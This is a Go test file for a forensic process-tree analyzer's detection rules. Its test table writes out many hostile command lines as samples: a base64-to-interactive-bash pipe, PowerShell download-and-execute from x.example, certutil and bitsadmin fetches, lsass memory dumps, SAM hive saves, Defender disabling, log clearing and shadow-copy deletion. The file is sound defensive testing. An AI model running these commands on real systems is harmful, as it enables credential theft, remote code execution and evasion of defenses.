package proctree

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"forensic/analyzers/finding"
)

// fired lists the titles of the rules a start breaks.
func fired(parent, exe, cmd string) (titles []string) {
	f := build(newInput(start{from: sysmon, ts: 1, pid: 2, guid: "{a}", exe: exe, cmd: cmd, pguid: "{p}", pexe: parent}))
	for _, c := range f.judge().claims {
		titles = append(titles, c.rule.title)
	}
	return titles
}

func TestRules(t *testing.T) {
	const sys = `C:\Windows\System32\`
	tests := []struct{ parent, exe, cmd, want string }{
		{`C:\Office16\WINWORD.EXE`, sys + "cmd.exe", "", "Document reader started a shell or script host"},
		{`C:\Office16\WINWORD.EXE`, `C:\splwow64.exe`, "splwow64 8192", ""},
		{sys + "WScript.exe", sys + "cmd.exe", "cmd /c dir", "Script host started a shell"},
		{sys + "mshta.exe", sys + "cmd.exe", "cmd /c dir", "HTML application host started a shell"},
		{sys + "services.exe", sys + "cmd.exe", "cmd /c x", "Service manager started a shell"},
		{sys + "services.exe", sys + "svchost.exe", "svchost -k netsvcs", ""},
		{sys + "services.exe", sys + "rundll32.exe", `rundll32.exe C:\Users\x\AppData\Local\Temp\rtcpef.dll,a /p:rtcpef`, "Service runs a library from a folder anyone can write to"},
		{sys + `wbem\WmiPrvSE.exe`, sys + "cmd.exe", "cmd /c x", "WMI provider host started a shell or a program used to run code"},
		{sys + "wsmprovhost.exe", sys + "powershell.exe", "powershell", "Remote PowerShell host started a shell"},
		{sys + "mmc.exe", sys + "cmd.exe", "cmd", "Management console or DCOM server started a shell"},
		{sys + "scrcons.exe", sys + "calc.exe", "calc", "WMI event consumer started a program"},
		{`C:\MSBuild.exe`, sys + "powershell.exe", "powershell", "Build tool started a shell"},
		{sys + "regsvr32.exe", sys + "cmd.exe", "cmd", "Program that loads foreign code started a shell"},
		{sys + "wmic.exe", sys + "calc.exe", "calc", "WMI command line started a program"},
		{sys + "wmic.exe", sys + "conhost.exe", `\??\` + sys + "conhost.exe 0x4", ""},
		{`C:\w3wp.exe`, sys + "cmd.exe", "cmd", "Server program started a shell"},
		{`/usr/bin/java`, `/bin/bash`, "bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i}", "Java started a shell; Shell reads base64 text as its commands"},
		{sys + "svchost.exe", `C:\EXCEL.EXE`, `"C:\EXCEL.EXE" /automation -Embedding`, "Office program started by a DCOM client"},
		{"", sys + "powershell.exe", "powershell -NoP -Enc SQBmACgAJABQ", "PowerShell with an encoded command"},
		{"", sys + "powershell.exe", "powershell -NoP -Exec bypassbypassbypass", ""},
		{"", `C:\MSBuild.exe`, `MSBuild.exe C:\Windows\Tasks\pshell.xml`, "MSBuild ran a project from a folder anyone can write to"},
		{"", `C:\MSBuild.exe`, `MSBuild.exe D:\work\app.csproj`, ""},
		{"", `C:\InstallUtil.exe`, `InstallUtil.exe /logfile= /LogToConsole=false /U c:\ProgramData\a.dll`, "InstallUtil asked to uninstall quietly"},
		{"", `C:\InstallUtil.exe`, `InstallUtil.exe /LogToConsole=false c:\ProgramData\unit.dll`, ""},
		{"", sys + "regsvr32.exe", "regsvr32 /s /u /i:HTTP://x/a.sct scrobj.dll", "Regsvr32 loaded a script component"},
		{"", sys + "regsvr32.exe", `regsvr32 /s C:\a.dll`, ""},
		{"", sys + "mshta.exe", `mshta.exe "javascript:a=GetObject('x')"`, "Mshta given script or an address"},
		{"", sys + "rundll32.exe", `rundll32.exe C:\windows\System32\comsvcs.dll, Mini^Dump 756 c:\x.dmp full`, "Memory of a process dumped through comsvcs.dll"},
		{"", sys + "cmstp.exe", `cmstp.exe /s C:\ProgramData\a.inf /au`, "Connection manager profile installed quietly"},
		{"", sys + "control.exe", `control.exe C:\ProgramData\calc.cpl`, "Control panel item run from an unusual folder"},
		{"", sys + "control.exe", `control.exe C:\Windows\System32\timedate.cpl`, ""},
		{"", sys + `wbem\wmic.exe`, `wmic process list /FORMAT:"https://x/a.xsl"`, "WMI command line given a remote style sheet"},
		{"", sys + "Register-CimProvider.exe", `Register-CimProvider.exe -Path C:\ProgramData\a.dll`, "WMI provider registered from a library"},
		{"", sys + "schtasks.exe", `schtasks.exe  /Create /F /tn x`, "Scheduled task created from the command line"},
		{"", sys + "schtasks.exe", `schtasks.exe /query`, ""},
		{"", sys + "vssadmin.exe", `vssadmin  create   shadow /for=C:`, "Volume shadow copy created"},
		{"", sys + "vssadmin.exe", `vssadmin list shadows`, ""},
		{"", sys + "vssadmin.exe", `vssadmin delete shadows /all`, "Shadow copies deleted"},
		{"", sys + "reg.exe", `reg save HKLM\SYSTEM c:\x`, "Registry hive with secrets saved to a file"},
		{"", sys + "reg.exe", `reg save HKLM\SYSTEM\Select c:\x`, ""},
		{"", sys + "reg.exe", `reg query HKLM\SAM`, ""},
		{"", `C:\Rubeus.exe`, `Rubeus.exe asktgt /user:p /ptt`, "Kerberos tickets requested or injected from the command line"},
		{"", sys + "netsh.exe", `netsh advfirewall firewall add rule name=x`, "Firewall opened from the command line"},
		{"", sys + "net.exe", `net user demo P@ss /add`, "Local or domain account added from the command line"},
		{"", sys + "net1.exe", `net1 localgroup Administrators demo /ADD`, "Account added to a group from the command line"},
		{"", sys + "net.exe", `net user`, "Accounts or groups listed"},
		{"", sys + "net.exe", `net use \\a\b`, ""},
		{"", sys + "sc.exe", `sc create evil binPath= c:\x.exe`, "Service created from the command line"},
		{"", sys + "sc.exe", `sc.exe \\dc query IKEEXT`, "Service of another machine controlled"},
		{"", sys + "whoami.exe", `whoami /all`, "User, domain or network explored from the command line"},
		{"", sys + "certutil.exe", `certutil.exe -urlcache -split -f http://x.example/a.txt a.exe`, "Certutil fetched a file"},
		{"", sys + "certutil.exe", `certutil -decode a.txt a.exe`, "Certutil decoded a file"},
		{"", sys + "certutil.exe", `certutil -hashfile a.exe SHA256`, ""},
		{"", sys + "bitsadmin.exe", `bitsadmin /transfer j http://x.example/a c:\a`, "BITS job made from the command line"},
		{"", sys + "bitsadmin.exe", `bitsadmin /list`, ""},
		{"", sys + "rundll32.exe", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";x`, "Rundll32 given script"},
		{"", sys + "rundll32.exe", `rundll32.exe shell32.dll,Control_RunDLL`, ""},
		{"", sys + `wbem\wmic.exe`, `wmic /node:srv process call create "calc"`, "Process made through the WMI command line"},
		{"", sys + `wbem\wmic.exe`, `wmic process list`, ""},
		{`C:\Windows\PSEXESVC.exe`, sys + "hostname.exe", "hostname", "Service of PsExec started a program"},
		{"", sys + "wevtutil.exe", `wevtutil cl Security`, "Event log cleared from the command line"},
		{"", sys + "wevtutil.exe", `wevtutil el`, ""},
		{"", sys + "bcdedit.exe", `bcdedit /set {default} recoveryenabled No`, "Recovery of the system switched off"},
		{"", sys + "bcdedit.exe", `bcdedit /enum`, ""},
		{"", sys + "powershell.exe", `powershell Set-MpPreference -DisableRealtimeMonitoring $true`, "Protection against malware switched off"},
		{"", sys + "powershell.exe", `powershell Add-MpPreference -ExclusionPath C:\`, "Protection against malware switched off"},
		{"", sys + "reg.exe", `reg add HKLM\SOFTWARE\Policies\x /v DisableAntiSpyware /t REG_DWORD /d 1`, "Protection against malware switched off"},
		{"", sys + "net.exe", `net stop WinDefend`, "Protection against malware switched off"},
		{"", sys + "net.exe", `net stop Spooler`, ""},
		{"", sys + "ntdsutil.exe", `ntdsutil "ac i ntds" "ifm" "create full c:\x" q q`, "Copy of the directory database made"},
		{"", `C:\procdump64.exe`, `procdump64.exe -ma lsass.exe x.dmp`, "Memory of lsass dumped by a debugging tool"},
		{"", `C:\procdump64.exe`, `procdump64.exe -ma w3wp.exe x.dmp`, ""},
		{"", sys + "netsh.exe", `netsh interface portproxy add v4tov4 listenport=8080`, "Port forwarded from the command line"},
		{"", `C:\plink.exe`, `plink.exe -R 3389:localhost:3389 u@x.example`, "Port forwarded from the command line"},
		{"", `C:\plink.exe`, `plink.exe u@x.example`, ""},
		{"", sys + "reg.exe", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b`, "Start value of the registry set from the command line"},
		{"", sys + "reg.exe", `reg add HKCU\Software\a /v a /d b`, ""},
		{"", sys + "powershell.exe", `powershell "IEX (New-Object Net.WebClient).DownloadString('http://x.example')"`, "PowerShell fetches and runs code"},
		{"", sys + "powershell.exe", `powershell (New-Object Net.WebClient).DownloadString('http://x.example')`, ""},
		{"", sys + "forfiles.exe", `forfiles /p c:\windows /m notepad.exe /c "cmd /c calc"`, "Program run by way of another"},
		{"", sys + "pcalua.exe", `pcalua.exe -a calc.exe`, "Program run by way of another"},
		{"", sys + "odbcconf.exe", `odbcconf /a {regsvr x.dll}`, "Program run by way of another"},
		{"", sys + "hh.exe", `hh.exe c:\help.chm`, ""},
		{sys + "svchost.exe", sys + "lsass.exe", "lsass.exe", ""},
		{sys + "explorer.exe", sys + "cmd.exe", "cmd.exe", ""},
	}
	covered := map[string]bool{}
	for _, test := range tests {
		got := fired(test.parent, test.exe, test.cmd)
		if strings.Join(got, "; ") != test.want {
			t.Errorf("%s → %s: %q, want %q", test.parent, test.cmd, got, test.want)
		}
		for _, title := range got {
			covered[title] = true
		}
	}
	for i := range rules {
		if !covered[rules[i].title] {
			t.Errorf("no test for rule %q", rules[i].title)
		}
	}
}

// The table itself: every rule is complete, and what it looks for can be found.
func TestRuleTable(t *testing.T) {
	technique := regexp.MustCompile(`^T\d{4}(\.\d{3})?$`)
	upper := func(s string) bool { return strings.ContainsFunc(s, unicode.IsUpper) }
	var titles []string
	for i := range rules {
		r := &rules[i]
		if slices.Contains(titles, r.title) || r.why == "" || r.benign == "" || r.severity == finding.Info {
			t.Errorf("rule %q: doubled or incomplete", r.title)
		}
		titles = append(titles, r.title)
		if len(r.techniques) == 0 || slices.ContainsFunc(r.techniques, func(id string) bool { return !technique.MatchString(id) }) {
			t.Errorf("rule %q: techniques %v", r.title, r.techniques)
		}
		for _, words := range [][]string{r.parents, r.children, r.all, r.any, r.options} {
			if slices.ContainsFunc(words, upper) {
				t.Errorf("rule %q: upper case never matches: %v", r.title, words)
			}
		}
		if r.parents == nil && r.children == nil && !r.needsArguments() {
			t.Errorf("rule %q matches everything", r.title)
		}
	}
}

func TestEncoded(t *testing.T) {
	tests := []struct {
		cmd  string
		want bool
	}{
		{`powershell -e SQBmACgAJABQAFMA`, true},
		{`powershell.exe /EncodedCommand "SQBmACgAJABQAFMA"`, true},
		{`cmd /c start powershell -w 1 -ec 'SQBmACgAJABQAFMA'`, true},
		{`pow^ershell -e^nc SQBmACgAJABQAFMA`, true},
		{`C:\a\pwsh.exe –enco SQBmACgAJABQAFMA`, true},
		{`powershell -e`, false},
		{`powershell -enc short`, false},
		{`powershell -exec unrestrictedx -file a.ps1`, false},
		{`powershell -enc C:\a\b-not-base64.ps1`, false},
		{`tool -e SQBmACgAJABQAFMA`, false},
		{``, false},
	}
	for _, test := range tests {
		if got := encoded(newCommand(test.cmd).args); got != test.want {
			t.Errorf("%s: %v", test.cmd, got)
		}
	}
}

func FuzzCommand(f *testing.F) {
	f.Add(`cmd /c "reg save HKLM\SAM x"`)
	f.Add(`control a.cpl \ - / ^"`)
	f.Fuzz(func(t *testing.T, line string) {
		c := newCommand(line)
		for i := range rules {
			if rules[i].needsArguments() {
				rules[i].arguments(c)
			}
		}
	})
}
